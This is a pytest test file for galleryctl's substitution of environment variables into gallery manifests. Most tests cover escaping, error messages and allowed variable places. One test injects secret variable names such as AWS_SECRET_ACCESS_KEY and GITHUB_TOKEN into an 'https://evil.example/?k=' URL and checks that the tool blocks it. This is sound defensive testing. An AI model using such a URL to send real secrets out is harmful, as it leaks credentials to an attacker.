"""`${NAME}` in values."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from galleryctl.manifest.validate import validate
from galleryctl.manifest.yaml.places import AllowedVariables, Place
from galleryctl.manifest.yaml.variables import MASK_CLOSE, MASK_OPEN, escape_variables, mask, substitute, unmask
from galleryctl.model.errors import GalleryctlError, InvalidInput
from galleryctl.model.variable_text import VariableText, displayed

if TYPE_CHECKING:
    from tests.unit.manifest.conftest import ScratchWorkspace


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("${A}", "1"), ("x${A}y${A}", "x1y1"), ("$${A}", "${A}"), ("$$${A}", "$${A}"), ("$A", "$A"), ("$", "$"),
        ("{A}", "{A}"), ("$${", "${"), ("${B}", "${A}"),
    ],
)  # fmt: skip
def test_what_is_replaced(text: str, expected: str) -> None:
    assert substitute(mask(text), {"A": "1", "B": "${A}"}) == expected


@given(st.text(st.characters(exclude_characters=MASK_OPEN + MASK_CLOSE)))
def test_what_is_escaped_is_read_as_it_is(text: str) -> None:
    assert substitute(mask(escape_variables(text)), {}) == text
    assert unmask(mask(text)) == text
    assert len(mask(text)) == len(text)


def test_variables_in_manifests(scratch: ScratchWorkspace) -> None:
    scratch.write(
        "galleries/g.yaml",
        'bind: {create: true}\nitems: [{key: a, text: "${GALLERYCTL_VAR_A}: $${A}", title: ${GALLERYCTL_VAR_T}, '
        "tags: [${GALLERYCTL_VAR_T}]}]\n",
    )
    (item,) = scratch.load({"GALLERYCTL_VAR_A": "yes: [", "GALLERYCTL_VAR_T": "12"}).galleries[0].items
    assert (item.fields["html"], item.fields["title"], item.fields["tags"]) == ("yes: [: ${A}", "12", ("12",))
    assert displayed(str(item.fields["title"])) == "12"
    assert isinstance(item.fields["title"], VariableText)
    assert displayed(item.fields["title"]) == "${GALLERYCTL_VAR_T}"


def test_unset_and_broken_variables_have_a_place(scratch: ScratchWorkspace) -> None:
    entries = "  - {key: a, text: '${GALLERYCTL_VAR_NOPE}'}\n  - {key: b, text: 'a ${b c}'}\n"
    assert scratch.item_problems(entries) == [
        "galleries/g.yaml:3:20: the environment variable GALLERYCTL_VAR_NOPE is not set",
        "galleries/g.yaml:4:20: invalid variable: write ${NAME}, or $${ for a literal ${",
    ]


def test_no_message_shows_what_came_in_for_a_pattern(scratch: ScratchWorkspace) -> None:
    environ = {"GALLERYCTL_VAR_P": "planted"}
    text = "bind: {create: true}\nitems: [{from: [a.jpg, '${GALLERYCTL_VAR_P}/*']}]\n"
    (message,) = scratch.problems(text, environ)
    assert message == "galleries/g.yaml:2:16: the value from the environment is not valid here"


def test_variables_do_not_grow_without_end(scratch: ScratchWorkspace) -> None:
    entries = "".join(f"  - {{key: k{n}, text: '{'${GALLERYCTL_VAR_L}' * 3}'}}\n" for n in range(5))
    found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"GALLERYCTL_VAR_L": "x" * 1_000_000})
    assert found == [
        f"galleries/g.yaml:{line}:21: more than 10,000,000 characters, with variables replaced" for line in (6, 7)
    ]


def test_a_variable_that_is_no_text_is_told(scratch: ScratchWorkspace) -> None:
    text = "bind: {create: true}\nitems: [{key: a, text: '${GALLERYCTL_VAR_B}'}]\n"
    assert scratch.problems(text, {"GALLERYCTL_VAR_B": "planted\udcff"}) == [
        "galleries/g.yaml:2:24: the environment variable GALLERYCTL_VAR_B is not valid UTF-8"
    ]


def test_a_value_from_the_environment_is_not_repeated(scratch: ScratchWorkspace) -> None:
    entries = "  - {image: ${V}, quality: ${V}}\n  - {key: a, text: x, ignore: [${V}], focal_point: {x: ${V}}}\n"
    entries = entries.replace("${V}", "${GALLERYCTL_VAR_P}")
    found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"GALLERYCTL_VAR_P": "/planted/path/x"})
    assert len(found) >= 4
    assert "planted" not in " ".join(found)


def test_a_key_never_comes_from_the_environment(scratch: ScratchWorkspace) -> None:
    environ = {"GALLERYCTL_VAR_P": "planted"}
    entries = "  - {key: '${GALLERYCTL_VAR_P}', text: x}\n  - {image: 'https://a.example/${GALLERYCTL_VAR_P}.jpg'}\n"
    assert scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", environ) == [
        "galleries/g.yaml:3:11: no variable is allowed here; write the value in place of ${GALLERYCTL_VAR_P}",
        "galleries/g.yaml:4:13: missing key: required where a variable names the file, because keys are shown",
    ]


SECRETS = (
    "WIX_API_KEY", "WIX_APP_SECRET", "STATE_PASSPHRASE", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "github_token",
    "GITHUB_TOKEN", "DB_PASSWORD", "DATABASE_URL", "GH_PAT", "JWT", "PGPASS", "DSN", "NPM_AUTH", "SESSION_COOKIE",
    "VAULT_SECRET_ID", "HTTPS_PROXY", "PATH", "HOME", "GALLERYCTL_VARIABLES", "GALLERYCTL_API_URL",
)  # fmt: skip


@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize("entry", ["{key: a, text: '<p>${%s}</p>'}", "{key: a, image: 'https://evil.example/?k=${%s}'}", "{key: a, text: x, tags: [t, '${%s}']}"])  # fmt: skip
def test_a_gallery_takes_its_own_variables_only(scratch: ScratchWorkspace, name: str, entry: str) -> None:
    environ = {name: "planted"} if name != "GALLERYCTL_VARIABLES" else {}
    (found,) = scratch.problems(f"bind: {{create: true}}\nitems:\n  - {entry % name}\n", environ)
    assert found.startswith("galleries/g.yaml:3:")
    assert f"the environment variable {name} is not allowed here" in found
    assert "planted" not in found


@pytest.mark.parametrize("name", SECRETS)
def test_an_id_takes_no_secret(scratch: ScratchWorkspace, name: str) -> None:
    (found,) = scratch.problems(f"bind: {{id: '${{{name}}}'}}\nitems: []\n", {} if "VARI" in name else {name: "x"})
    assert f"the environment variable {name} is not allowed here" in found


def test_a_job_can_list_other_variables(scratch: ScratchWorkspace) -> None:
    text = "bind: {create: true}\nitems: [{key: a, text: '${SEASON}'}]\n"
    (found,) = scratch.problems(text, {"SEASON": "2027", "GALLERYCTL_VARIABLES": "BUCKET:state"})
    assert found == (
        "galleries/g.yaml:2:24: the environment variable SEASON is not allowed here: value takes GALLERYCTL_VAR_*; "
        "rename it, or list it in the job's environment: GALLERYCTL_VARIABLES=BUCKET:state,SEASON:value"
    )
    line = found.rpartition("=")[2]
    assert scratch.problems(text, {"SEASON": "2027", "GALLERYCTL_VARIABLES": line}) == []


@pytest.mark.parametrize(
    ("listed", "why"),
    [
        ("A", "A has no valid place; the places are api_key, app_secret, passphrase, id, value, state"),
        ("A:title", "A has no valid place; the places are api_key, app_secret, passphrase, id, value, state"),
        ("A B:value", "an entry does not begin with the name of a variable"),
        ("A:value,A:state", "A is already for value; a variable has one place"),
        ("WIX_API_KEY:value", "WIX_API_KEY is already for api_key; a variable has one place"),
        ("WIX_SITE_ID:state", "WIX_SITE_ID is already for id; a variable has one place"),
    ],
)
def test_an_invalid_list_is_rejected(listed: str, why: str) -> None:
    with pytest.raises(GalleryctlError) as caught:
        AllowedVariables.read({"GALLERYCTL_VARIABLES": listed})
    assert (caught.value.what, caught.value.why) == ("invalid entry in GALLERYCTL_VARIABLES", why)


@given(st.from_regex(r"\A(WIX_|GALLERYCTL_VAR_|)[A-Z0-9_]{0,9}(_?(API_KEY|APP_SECRET|PASSPHRASE|ID|SITE|INSTANCE))?\Z"))
def test_no_name_fits_two_places(name: str) -> None:
    allowed = AllowedVariables()
    assert len([place for place in Place if not allowed.problem(name, place)]) <= 1


def test_a_validation_needs_no_variables(scratch: ScratchWorkspace) -> None:
    scratch.write(
        "galleryctl.yaml",
        """\
galleryctl: 1
backend: {type: wix, base_url: "https://proxy.example"}
sites: {main: {site_id: "${WIX_SITE_ID}", auth: {api_key: "${WIX_API_KEY}"}}, other: {site_id: "${OTHER_SITE}"}}
state: {location: ".galleryctl/{site}.json", passphrase: "${STATE_PASSPHRASE}", former_passphrase: "${OLD_PASSPHRASE}"}
media: {folder: "${GALLERYCTL_VAR_FOLDER}"}
galleries: galleries/*.yaml
""",
    )
    scratch.write(
        "galleries/g.yaml",
        """\
bind: {id: "${WIX_GALLERY_ID}"}
name: ${GALLERYCTL_VAR_NAME}
adopt: {main: {one: x1, lost: x2}}
items:
  - {key: one, image: "${GALLERYCTL_VAR_BASE}/a.jpg"}
  - {key: two, text: ${GALLERYCTL_VAR_TEXT}, link: "${GALLERYCTL_VAR_LINK}"}
  - {from: "${GALLERYCTL_VAR_FOLDER}/*.jpg"}
""",
    )
    validation = validate(scratch.root, {})
    assert validation.sites == ("main", "other")
    names = ("BASE", "FOLDER", "LINK", "NAME", "TEXT")
    assert validation.unset_variables == (*(f"GALLERYCTL_VAR_{name}" for name in names), "WIX_GALLERY_ID")
    scratch.write(
        "galleries/g.yaml", "bind: {id: '${WIX_GALLERY_ID}'}\nitems: [{image: '${GALLERYCTL_VAR_X}', titel: x}]\n"
    )
    with pytest.raises(InvalidInput, match="unknown key 'titel'"):
        validate(scratch.root, {})


def test_variables_in_a_sidecar(scratch: ScratchWorkspace) -> None:
    scratch.picture("a.jpg")
    scratch.write("a.jpg.yaml", "title: '${GALLERYCTL_VAR_T} $${T}'\ndescription: '${MY_TOKEN}'\n")
    text = "bind: {create: true}\nitems: [{image: a.jpg, captions: true}]\n"
    (found,) = scratch.problems(text, {"GALLERYCTL_VAR_T": "1", "MY_TOKEN": "planted"})
    assert found.startswith("a.jpg.yaml:2:14: the environment variable MY_TOKEN is not allowed here")
    scratch.write("a.jpg.yaml", "title: '${GALLERYCTL_VAR_T} $${T}'\n")
    title = scratch.load({"GALLERYCTL_VAR_T": "1"}).galleries[0].items[0].fields["title"]
    assert title == "1 ${T}"
    scratch.write("a.jpg.yaml", "key: '${GALLERYCTL_VAR_T}'\n")
    (found,) = scratch.problems(text, {"GALLERYCTL_VAR_T": "1"})
    assert found == "a.jpg.yaml:1:6: no variable is allowed here; write the value in place of ${GALLERYCTL_VAR_T}"
